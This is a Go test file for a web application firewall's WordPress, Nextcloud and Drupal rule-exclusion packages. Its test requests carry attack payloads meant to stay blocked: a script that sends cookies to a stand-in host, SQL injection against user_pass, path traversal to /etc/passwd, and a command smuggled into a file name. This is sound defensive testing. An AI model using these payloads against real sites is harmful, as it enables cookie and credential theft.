package waf

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"io/fs"
	"net/http/httptest"
	"net/url"
	"os"
	"path"
	"strings"
	"testing"

	"github.com/rampart-edge/rampart/internal/config"
	"github.com/rampart-edge/rampart/internal/edge"
)

// form encodes name-value pairs as an application/x-www-form-urlencoded
// body, in the given order.
func form(kv ...string) string {
	var b strings.Builder
	for i := 0; i+1 < len(kv); i += 2 {
		if i > 0 {
			b.WriteByte('&')
		}
		b.WriteString(url.QueryEscape(kv[i]) + "=" + url.QueryEscape(kv[i+1]))
	}
	return b.String()
}

const formType = "application/x-www-form-urlencoded"

// TestAppExclusions sends each application's ordinary requests that the
// CRS alone blocks, with and without the app's exclusion package, and
// attacks on what the package does not exclude, which must stay blocked
// with it on. Block mode, paranoia 1.
func TestAppExclusions(t *testing.T) {
	// A WordPress post as the classic editor saves it: HTML with an
	// embed and a code sample.
	wpPost := form("_wpnonce", "3f2a9c1d7e", "action", "editpost", "post_ID", "42", "post_title", "Joining tables",
		"content", `<p>To list the admins:</p><pre><code>SELECT user_login FROM wp_users WHERE ID = 1 OR 1=1;</code></pre><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315"></iframe>`)
	// The same post saved by the block editor (Gutenberg) over the REST API.
	wpJSON := `{"id":42,"title":"Joining tables","content":"<!-- wp:html --><script src=\"https://widgets.example.org/embed.js\" async></script><!-- /wp:html --><!-- wp:code --><pre class=\"wp-block-code\"><code>SELECT user_login FROM wp_users WHERE ID = 1 OR 1=1;</code></pre><!-- /wp:code -->","status":"draft"}`
	// A shell script saved in Nextcloud's text editor.
	ncSave := form("filecontents", "#!/bin/sh\n# nightly backup\ncat /etc/passwd > /backup/passwd.txt\nwget http://backup.example.org/upload?f=passwd.txt\n", "path", "/Notes/backup.sh", "mtime", "1764000000")
	// A calendar event as a CalDAV client uploads it.
	ncEvent := "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Nextcloud calendar v4\r\nBEGIN:VEVENT\r\nUID:7d1c2e\r\nDTSTART:20261126T090000Z\r\nSUMMARY:Stand-up\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
	// A file the sync client uploads.
	ncUpload := "Meeting notes: bring coffee, review the Q4 plan."
	// A Drupal article body as CKEditor saves it.
	drupalNode := form("title[0][value]", "Embedding a video", "body[0][value]",
		`<p>Watch:</p><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="resize(this)"></iframe><script>window.dataLayer.push({event: "video"});</script>`,
		"form_id", "node_article_edit_form", "op", "Save")

	tests := []struct {
		name                 string
		apps                 []string
		exclusions           []config.WAFExclusion
		method, target, body string
		ctype                string
		want                 int
	}{
		// WordPress: ordinary editing, blocked by the CRS alone.
		{name: "wordpress classic editor without app", method: "POST", target: "/wp-admin/post.php", body: wpPost, ctype: formType, want: 403},
		{name: "wordpress classic editor", apps: []string{"wordpress"}, method: "POST", target: "/wp-admin/post.php", body: wpPost, ctype: formType, want: 200},
		{name: "wordpress block editor without app", method: "POST", target: "/wp-json/wp/v2/posts/42", body: wpJSON, ctype: "application/json", want: 403},
		{name: "wordpress block editor", apps: []string{"wordpress"}, method: "POST", target: "/wp-json/wp/v2/posts/42", body: wpJSON, ctype: "application/json", want: 200},
		// WordPress: attacks outside the exclusions stay blocked.
		{name: "wordpress xss in post title", apps: []string{"wordpress"}, method: "POST", target: "/wp-admin/post.php",
			body: form("action", "editpost", "post_ID", "42", "post_title", `<script>alert(document.cookie)</script>`, "content", "<p>hello</p>"), ctype: formType, want: 403},
		{name: "wordpress xss in comment", apps: []string{"wordpress"}, method: "POST", target: "/wp-comments-post.php",
			body: form("comment", `<script>document.location='https://evil.example/?c='+document.cookie</script>`, "comment_post_ID", "42"), ctype: formType, want: 403},
		{name: "wordpress sqli in search", apps: []string{"wordpress"}, method: "GET", target: "/?s=1%27+UNION+SELECT+user_pass+FROM+wp_users--", want: 403},
		{name: "wordpress content elsewhere", apps: []string{"wordpress"}, method: "POST", target: "/wp-admin/options.php", body: wpPost, ctype: formType, want: 403},

		// Nextcloud: saving a file in the text editor.
		{name: "nextcloud text editor without app", method: "PUT", target: "/index.php/apps/files_texteditor/ajax/savefile", body: ncSave, ctype: formType, want: 403},
		{name: "nextcloud text editor", apps: []string{"nextcloud"}, method: "PUT", target: "/index.php/apps/files_texteditor/ajax/savefile", body: ncSave, ctype: formType, want: 200},
		// Nextcloud: WebDAV (the desktop and mobile clients' sync), whose
		// methods and content types the package allows; CRS v4 checks
		// them in phase 1 (appPhase1).
		{name: "nextcloud webdav propfind without app", method: "PROPFIND", target: "/remote.php/dav/files/alice/Documents/", want: 403},
		{name: "nextcloud webdav propfind", apps: []string{"nextcloud"}, method: "PROPFIND", target: "/remote.php/dav/files/alice/Documents/", want: 200},
		{name: "nextcloud webdav upload without app", method: "PUT", target: "/remote.php/dav/files/alice/Documents/notes.txt", body: ncUpload, ctype: "application/octet-stream", want: 403},
		{name: "nextcloud webdav upload", apps: []string{"nextcloud"}, method: "PUT", target: "/remote.php/dav/files/alice/Documents/notes.txt", body: ncUpload, ctype: "application/octet-stream", want: 200},
		// A CalDAV PUT trips 921150 (CR/LF in ARGS_NAMES: Coraza parses
		// the body as urlencoded), which the package does not exclude; the
		// documented workaround (apps/PROVENANCE.md) lets it through.
		{name: "nextcloud calendar put", apps: []string{"nextcloud"}, method: "PUT", target: "/remote.php/dav/calendars/alice/personal/standup.ics", body: ncEvent, ctype: "text/calendar; charset=utf-8", want: 403},
		{name: "nextcloud calendar put with workaround", apps: []string{"nextcloud"}, exclusions: []config.WAFExclusion{{Rule: 921150, Path: "/remote.php/dav/"}},
			method: "PUT", target: "/remote.php/dav/calendars/alice/personal/standup.ics", body: ncEvent, ctype: "text/calendar; charset=utf-8", want: 200},
		{name: "nextcloud propfind elsewhere", apps: []string{"nextcloud"}, method: "PROPFIND", target: "/admin/", want: 403},
		// Nextcloud: attacks outside the exclusions stay blocked.
		{name: "nextcloud traversal in files app", apps: []string{"nextcloud"}, method: "GET", target: "/index.php/apps/files/?dir=../../../../etc/passwd", want: 403},
		{name: "nextcloud rce in file name", apps: []string{"nextcloud"}, method: "PUT", target: "/index.php/apps/files_texteditor/ajax/savefile",
			body: form("filecontents", "notes", "path", "/Notes/a.txt;cat /etc/passwd"), ctype: formType, want: 403},
		{name: "nextcloud editor body elsewhere", apps: []string{"nextcloud"}, method: "POST", target: "/index.php/apps/notes/save", body: ncSave, ctype: formType, want: 403},

		// Drupal: editing an article.
		{name: "drupal node edit without app", method: "POST", target: "/node/7/edit", body: drupalNode, ctype: formType, want: 403},
		{name: "drupal node edit", apps: []string{"drupal"}, method: "POST", target: "/node/7/edit", body: drupalNode, ctype: formType, want: 200},
		{name: "drupal xss in node title", apps: []string{"drupal"}, method: "POST", target: "/node/7/edit",
			body: form("title[0][value]", `<script>alert(document.cookie)</script>`, "body[0][value]", "<p>hi</p>"), ctype: formType, want: 403},

		// One app's package does not excuse another app's requests.
		{name: "drupal package on a wordpress post", apps: []string{"drupal"}, method: "POST", target: "/wp-admin/post.php", body: wpPost, ctype: formType, want: 403},
		{name: "all packages", apps: config.WAFApps, method: "POST", target: "/wp-admin/post.php", body: wpPost, ctype: formType, want: 200},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := phase(t, config.WAF{Mode: "block", Paranoia: 1, Apps: tt.apps, Exclusions: tt.exclusions})
			r, _ := request(tt.method, tt.target, tt.body, tt.ctype)
			w := httptest.NewRecorder()
			got := 200
			if p.Serve(w, r) == edge.Handled {
				got = w.Code
			}
			if got != tt.want {
				t.Errorf("%s %s with apps %v: status %d, want %d", tt.method, tt.target, tt.apps, got, tt.want)
			}
		})
	}
}

// TestAppFiles checks the embedded packages against config.WAFApps and
// apps/PROVENANCE.md: one file per accepted name, each unchanged from the
// Debian package (its sha256 in the provenance table).
func TestAppFiles(t *testing.T) {
	t.Parallel()
	prov, err := os.ReadFile("apps/PROVENANCE.md")
	if err != nil {
		t.Fatal(err)
	}
	confs, err := fs.Glob(appFiles, appDir+"/*.conf")
	if err != nil {
		t.Fatal(err)
	}
	if len(confs) != len(config.WAFApps) {
		t.Errorf("%d embedded files for %d names %v", len(confs), len(config.WAFApps), config.WAFApps)
	}
	for _, name := range config.WAFApps {
		f := appFile(name)
		if f == "" {
			t.Errorf("no embedded file for app %q", name)
			continue
		}
		data, err := fs.ReadFile(appFiles, f)
		if err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256(data)
		row := fmt.Sprintf("| `%x` | `%s` |", sum, path.Base(f))
		if !bytes.Contains(prov, []byte(row)) {
			t.Errorf("apps/PROVENANCE.md lacks the row %s: the file changed or the table is stale", row)
		}
		gate := "SecRule &TX:crs_exclusions_" + name + "|TX:crs_exclusions_" + name + ` "@eq 0"`
		if !bytes.Contains(data, []byte(gate)) {
			t.Errorf("%s is not gated by tx.crs_exclusions_%s", f, name)
		}
	}
	if appFile("joomla") != "" || appFile("*") != "" || appFile("WordPress") != "" {
		t.Error("appFile accepts a name that is not an embedded app")
	}
	// With apps, the glob is split: every CRS file once, none left out.
	d := Directives(config.WAF{Apps: config.WAFApps}, "")
	if strings.Contains(d, "@owasp_crs/*.conf") {
		t.Error("directives with apps still include the CRS glob")
	}
	for _, f := range crsFiles {
		if n := strings.Count(d, "Include "+f+"\n"); n != 1 {
			t.Errorf("%s included %d times", f, n)
		}
	}
}

// TestAppPhase1 checks that every rule appPhase1 moves is a phase-2 rule
// of its app's file.
func TestAppPhase1(t *testing.T) {
	t.Parallel()
	for app, ids := range appPhase1 {
		data, err := fs.ReadFile(appFiles, appFile(app))
		if err != nil {
			t.Fatalf("app %q: %v", app, err)
		}
		for _, id := range ids {
			head := fmt.Sprintf("\"id:%d,\\\n    phase:2,", id)
			if !bytes.Contains(data, []byte(head)) {
				t.Errorf("app %q: rule %d is not a phase-2 rule of %s", app, id, appFile(app))
			}
		}
	}
}
